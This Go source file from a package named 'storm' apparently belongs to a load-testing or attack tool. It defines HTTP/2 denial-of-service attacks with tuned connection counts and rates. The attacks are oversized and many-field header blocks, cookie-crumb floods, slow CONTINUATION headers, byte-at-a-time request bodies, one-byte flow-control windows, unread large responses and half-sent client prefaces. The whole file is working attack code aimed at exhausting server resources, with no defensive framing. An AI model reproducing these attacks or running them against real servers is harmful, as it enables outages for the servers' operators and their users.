package storm

import (
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

func headAttacks() []Attack {
	heads := func(name, what string, rate float64, fields func() []string) Attack {
		list := fields()
		return Attack{Name: name, What: what, Unit: "heads", Conns: 16, Dials: 40, Rate: rate, Needs: HTTP2,
			run: func(s *storm, c *line) error {
				h := s.open(c, true)
				return h.repeat(1, func() { h.split(h.stream(), h.request("GET", s.to.Hidden, list...)) })
			}}
	}
	return []Attack{
		heads("HTTP/2 large heads", "heads of 200 KB, in one field", 100, func() []string {
			return []string{"x-large", strings.Repeat("a", 200<<10)}
		}),
		heads("HTTP/2 many fields", "heads of 2,000 fields", 200, func() []string {
			var list []string
			for i := range 2000 {
				list = append(list, fmt.Sprintf("x-%d", i), "y")
			}
			return list
		}),
		heads("cookie crumbs", "heads with 4,000 crumbs of a cookie", 200, func() []string {
			var list []string
			for range 4000 {
				list = append(list, "cookie", "a=b")
			}
			return list
		}),
	}
}

func slowAttacks() []Attack {
	return []Attack{
		{Name: "HTTP/2 slow heads", What: "heads that grow by a byte twice a second", Unit: "frames",
			Conns: 600, Dials: 150, Rate: 4000, Needs: HTTP2, run: slowHeaders},
		{Name: "HTTP/2 slow bodies", What: "bodies that grow by a byte twice a second, 20 on each connection", Unit: "frames",
			Conns: 200, Dials: 100, Rate: 10000, Needs: HTTP2, run: slowData},
		{Name: "HTTP/2 slow readers", What: "large answers in windows that grow by a byte at a time", Unit: "frames",
			Conns: 200, Dials: 100, Rate: 10000, Needs: HTTP2, run: slowWindow},
		{Name: "HTTP/2 unread", What: "large answers with all the window there is, and nothing read", Unit: "streams",
			Conns: 100, Dials: 100, Rate: 5000, Needs: HTTP2, run: unreadAnswers},
		{Name: "half a preface", What: "the beginning of HTTP/2's preface, and nothing more", Unit: "connections",
			Conns: 800, Dials: 150, Rate: 1e6, Needs: HTTP2, run: halfPreface},
	}
}

const slowly = 500 * time.Millisecond

func slowHeaders(s *storm, c *line) error {
	h := s.open(c, true)
	block := h.request("GET", s.to.Page)
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: block, EndStream: true})
	if err := h.flush(); err != nil {
		return err
	}
	for s.pause(slowly) && s.may(1) {
		_ = h.fr.WriteContinuation(1, false, []byte{0x82 + 0x0e}) // an indexed field of the static table
		if err := h.flush(); err != nil {
			return err
		}
	}
	return nil
}

// onEach is how many slow streams share a connection.
const onEach = 20

func slowData(s *storm, c *line) error {
	h := s.open(c, true)
	for range onEach {
		h.headers(h.stream(), false, h.request("POST", s.to.Sink, "content-length", "1000000"))
	}
	for s.may(onEach) {
		for n := range uint32(onEach) {
			_ = h.fr.WriteData(2*n+1, false, []byte("a"))
		}
		if err := h.flush(); err != nil {
			return err
		}
		if !s.pause(slowly) {
			break
		}
	}
	return nil
}

func slowWindow(s *storm, c *line) error {
	h := s.open(c, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	for range onEach {
		h.headers(h.stream(), true, h.request("GET", s.to.Large))
	}
	for s.may(onEach) {
		for n := range uint32(onEach) {
			_ = h.fr.WriteWindowUpdate(2*n+1, 1)
		}
		if err := h.flush(); err != nil {
			return err
		}
		if !s.pause(slowly) {
			break
		}
	}
	return nil
}

func unreadAnswers(s *storm, c *line) error {
	h := s.open(c, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	_ = h.fr.WriteWindowUpdate(0, 1<<30)
	for range onEach {
		if !s.may(1) {
			return nil
		}
		h.headers(h.stream(), true, h.request("GET", s.to.Large))
	}
	if err := h.flush(); err != nil {
		return err
	}
	return h.unread()
}

func halfPreface(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	if _, err := c.Write([]byte(http2.ClientPreface[:10])); err != nil {
		return s.unlessOver(err)
	}
	return c.hold()
}
